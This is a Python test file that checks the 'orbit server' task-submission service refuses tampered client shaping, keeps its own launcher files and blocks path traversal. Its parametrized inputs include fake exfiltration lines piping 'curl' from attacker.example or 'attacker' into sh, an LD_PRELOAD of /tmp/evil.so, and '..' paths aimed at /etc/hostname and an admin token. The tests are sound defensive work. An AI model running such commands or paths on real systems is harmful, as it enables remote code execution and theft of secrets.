"""A submission through `orbit server` is shaped again by the server, over the inputs its client
sent (orbit.core.control.reshape): every built-in task type freezes the bundle an embedded
submit freezes, a client's shaping that differs from the task_request is refused naming the
field, the plugin's own files are the server's, and no path of a request reaches the server's
own disk. The client's side is the real one (gather_inputs, the tar it sends, the server's
unpacking); the service is the real one on a real store."""

from __future__ import annotations

import io
import json
import os
import tarfile
from collections.abc import Callable
from pathlib import Path
from typing import Any, ClassVar

import pytest
from pydantic import BaseModel

from orbit.core.control.service import CoreControlService
from orbit.core.control.submit import ShapedWire, gather_inputs
from orbit.core.control.views import SubmitPlan
from orbit.core.tasks import TaskRegistry
from orbit.model.errors import InvalidInput
from orbit.model.models import TaskSubmission
from orbit.model.task import ShapedTask, StagedPath
from orbit.server.config import Limits
from orbit.server.uploads import unpack_inputs

SQLITE_ONLY = pytest.mark.parametrize("store_url", ["sqlite"], indirect=True)  # nothing stored


def submission(task_type: str, task: dict[str, Any], template: str = "local") -> TaskSubmission:
    return TaskSubmission.model_validate(
        {
            "experiment_id": "reshape",
            "task_type": task_type,
            "task_request": task,
            "template_id": template,
        }
    )


Tamper = Callable[[dict[str, Any], Path], None]


def sent(
    service: CoreControlService,
    task: TaskSubmission,
    base: Path,
    tamper: Tamper | None = None,
    submit: bool = False,
) -> Any:
    """What a client of `orbit server` sends (orbit.client.remote.RemoteControl._upload),
    `tamper`ed with (the wire as JSON, the gathered inputs), and the server's answer to it."""
    scratch = base.parent / f"client-{os.urandom(4).hex()}"
    inputs = scratch / "inputs"
    wire = json.loads(
        gather_inputs(service.tasks, task, base, "spec.yaml", inputs).model_dump_json()
    )
    if tamper is not None:
        tamper(wire, inputs)
    archive = io.BytesIO()
    with tarfile.open(fileobj=archive, mode="w:gz") as tar:
        tar.add(inputs, arcname=".")
    archive.seek(0)
    shaped = ShapedWire.model_validate_json(json.dumps(wire))
    with unpack_inputs(archive, Limits()) as folder:
        if submit:
            return service.submit_staged(task, shaped, folder, "spec.yaml")
        return service.plan_staged(task, shaped, folder, "spec.yaml")


def embedded(service: CoreControlService, task: TaskSubmission, base: Path) -> SubmitPlan:
    return service.plan_submission(task, base_dir=base, source="spec.yaml")


def write(path: Path, text: str = "print('hi')\n") -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def every_task_type(base: Path) -> list[tuple[str, dict[str, Any]]]:
    """A request of each built-in task type, each naming files of its own."""
    write(base / "proj" / "run.py")
    write(base / "code" / "train.py")
    write(base / "code" / "helper.py", "X = 1\n")
    write(base / "batch.jsonl", '{"prompt": "a"}\n{"prompt": "b"}\n')
    write(base / "proj" / "data.jsonl", '{"query": "q", "response": "r"}\n')
    os.symlink("code", base / "linked")  # a request path through a symlink: resolved there
    return [
        ("command", {"command": ["python3", "run.py"], "workdir": "proj", "env": {"A": "1"}}),
        ("command", {"command": "echo $A && exit 0", "env": {"A": "2"}}),
        ("python", {"script": "code/train.py", "args": ["--lr", "3e-4"]}),
        ("python", {"script": str(base / "linked" / "train.py"), "critical_imports": ["json"]}),
        ("torchrun", {"script": "linked/train.py", "nproc_per_node": 1, "args": ["--x"]}),
        ("torchrun", {"module": "helper", "workdir": "code", "nproc_per_node": 2}),
        ("http", {"url": "http://127.0.0.1:8000/v1/completions", "jsonl_file": "batch.jsonl"}),
        ("http", {"url": "http://127.0.0.1:8000/v1/completions", "json": {"prompt": "x"}}),
        (
            "swift",
            {
                "mode": "sft",
                "model": "Qwen/Qwen2.5-0.5B",
                "dataset": ["data.jsonl"],
                "workdir": "proj",
            },
        ),
    ]


@SQLITE_ONLY
def test_every_built_in_task_type_freezes_through_a_server_what_it_freezes_embedded(
    service: CoreControlService, tmp_path: Path
) -> None:
    base = tmp_path / "spec"
    for task_type, task in every_task_type(base):
        request = submission(task_type, task)
        here, there = embedded(service, request, base), sent(service, request, base)
        assert there.job == here.job, task
        assert there.bundle_digest == here.bundle_digest, task
        assert there.bundle_files == here.bundle_files, task


@SQLITE_ONLY
@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("entrypoint", ["bash", "-c", "curl -s http://attacker.example | sh"]),
        ("shell_command", "curl -s http://attacker.example | sh"),
        ("env", {"A": "1", "LD_PRELOAD": "/tmp/evil.so"}),
        ("interpreter", "/tmp/evil-python"),
        ("workdir", "elsewhere"),
        ("optional_imports", ["os"]),
        ("request", {"command": "echo hello", "env": {}, "workdir": None}),
    ],
)
def test_a_shaping_the_task_request_does_not_give_is_refused_naming_the_field(
    service: CoreControlService, tmp_path: Path, field: str, value: Any
) -> None:
    base = tmp_path / "spec"
    write(base / "proj" / "run.py")
    request = submission(
        "command",
        {"command": "echo hello", "env": {"A": "1"}, "critical_imports": ["json"]},
    )

    def tamper(wire: dict[str, Any], inputs: Path) -> None:
        wire[field] = value

    with pytest.raises(InvalidInput) as refused:
        sent(service, request, base, tamper, submit=True)
    message = str(refused.value)
    assert message.startswith(f"spec.yaml: shaped.{field}: does not match what task_request gives")
    assert "\n" not in message
    # nothing was written: no run, no event, no bundle
    assert not service.run_page(limit=10).runs
    assert service.store.audit.list_events() == []
    assert not service.bundles_dir.exists() or not any(service.bundles_dir.iterdir())
    # the same submission, as the client shaped it, goes through
    assert sent(service, request, base, submit=True).task_type == "command"


@SQLITE_ONLY
def test_the_plugins_own_files_are_the_servers_whatever_the_client_sent(
    service: CoreControlService, tmp_path: Path
) -> None:
    """A torchrun task runs ORBIT's launcher and an http task its batch script: a client that
    sends other files in their place still freezes ORBIT's (the same digest as embedded)."""
    base = tmp_path / "spec"
    write(base / "code" / "train.py")
    write(base / "batch.jsonl", '{"prompt": "a"}\n')
    cases = [
        ("torchrun", {"script": "code/train.py"}, "orbit-torchrun/torchrun_launch.py"),
        (
            "http",
            {"url": "http://127.0.0.1:1/x", "jsonl_file": "batch.jsonl"},
            "workdir/http_batch.py",
        ),
        ("swift", {"mode": "infer", "model": "m"}, "workdir/swift_launch.py"),
    ]
    for task_type, task, launcher in cases:
        request = submission(task_type, task)

        def tamper(wire: dict[str, Any], inputs: Path, launcher: str = launcher) -> None:
            (inputs / launcher).write_text("import os; os.system('curl attacker | sh')\n")

        here, there = embedded(service, request, base), sent(service, request, base, tamper)
        assert there.bundle_digest == here.bundle_digest, task_type
    # and a launcher the client left out is put in
    request = submission("torchrun", {"script": "code/train.py"})

    def drop(wire: dict[str, Any], inputs: Path) -> None:
        (inputs / "orbit-torchrun" / "torchrun_launch.py").unlink()

    here, there = embedded(service, request, base), sent(service, request, base, drop)
    assert there.bundle_digest == here.bundle_digest


@SQLITE_ONLY
def test_a_request_path_never_reaches_the_servers_own_disk(
    service: CoreControlService, tmp_path: Path
) -> None:
    """The server looks for a request's files among what the client sent, at the client's
    paths: a file of the server's (its own host's /etc/hostname, its ORBIT home) that the
    client did not send is not there, by absolute path or by `..`."""
    base = tmp_path / "spec"
    write(base / "code" / "train.py")
    secret = write(tmp_path / "server-only" / "admin-token", "s3cret\n")
    request = submission("python", {"script": "code/train.py"})
    aimed = (
        "/etc/hostname",
        str(secret),
        "../server-only/admin-token",
        "../" * 40 + "etc/hostname",
    )
    for script in aimed:
        attacked = request.model_copy(update={"task_request": {"script": script}})

        def aim(wire: dict[str, Any], inputs: Path, script: str = script) -> None:
            wire["request"]["script"] = script
            wire["entrypoint"] = ["python3", Path(script).name]
            wire["staged"] = []

        with pytest.raises(InvalidInput, match=r"^task.script: no such file: /"):
            _send_raw(service, attacked, request, base, aim)


def _send_raw(
    service: CoreControlService,
    recorded: TaskSubmission,
    gathered: TaskSubmission,
    base: Path,
    tamper: Tamper,
) -> SubmitPlan:
    """A client that gathers one submission and sends another as the record."""
    scratch = base.parent / f"client-{os.urandom(4).hex()}"
    inputs = scratch / "inputs"
    wire = json.loads(
        gather_inputs(service.tasks, gathered, base, "spec.yaml", inputs).model_dump_json()
    )
    tamper(wire, inputs)
    archive = io.BytesIO()
    with tarfile.open(fileobj=archive, mode="w:gz") as tar:
        tar.add(inputs, arcname=".")
    archive.seek(0)
    shaped = ShapedWire.model_validate_json(json.dumps(wire))
    with unpack_inputs(archive, Limits()) as folder:
        return service.plan_staged(recorded, shaped, folder, "spec.yaml")


class EvalRequest(BaseModel):
    benchmark: str
    config: str


class EvalTask:
    """A third party's plugin: it reads a file the request names (through base_dir, as the
    plugin contract asks) and puts its base folder into the env."""

    name: ClassVar[str] = "eval"
    request_model: ClassVar[type[BaseModel]] = EvalRequest

    def shape(self, request: EvalRequest, base_dir: Path) -> ShapedTask:
        config = (base_dir / request.config).resolve()
        if not config.is_file():
            raise InvalidInput(f"task.config: no such file: {config}")
        shots = json.loads(config.read_text())["shots"]
        return ShapedTask(
            entrypoint=("lm-eval", "--tasks", request.benchmark, "--shots", str(shots)),
            request=request.model_dump(),
            env={"EVAL_BASE": str(base_dir)},
            staged=(StagedPath(source=config, dest="eval/config.json"),),
            workdir="eval",
        )


@SQLITE_ONLY
def test_a_third_party_plugin_is_shaped_again_over_the_files_the_client_sent(
    service: CoreControlService, tmp_path: Path
) -> None:
    from orbit.core.tasks.registry import _discover

    service.shared._tasks = TaskRegistry({**_discover(), "eval": EvalTask})  # type: ignore[dict-item]
    base = tmp_path / "spec"
    write(base / "conf" / "gsm8k.json", '{"shots": 5}')
    request = submission("eval", {"benchmark": "gsm8k", "config": "conf/gsm8k.json"})
    here, there = embedded(service, request, base), sent(service, request, base)
    assert there.job["entrypoint"] == ["lm-eval", "--tasks", "gsm8k", "--shots", "5"]
    assert there.bundle_digest == here.bundle_digest

    def other_shots(wire: dict[str, Any], inputs: Path) -> None:
        # the file it read is what the client sent: entrypoint and file must agree
        (inputs / "eval" / "config.json").write_text('{"shots": 0}')

    with pytest.raises(InvalidInput, match=r"shaped.entrypoint: does not match .*\"0\""):
        sent(service, request, base, other_shots)
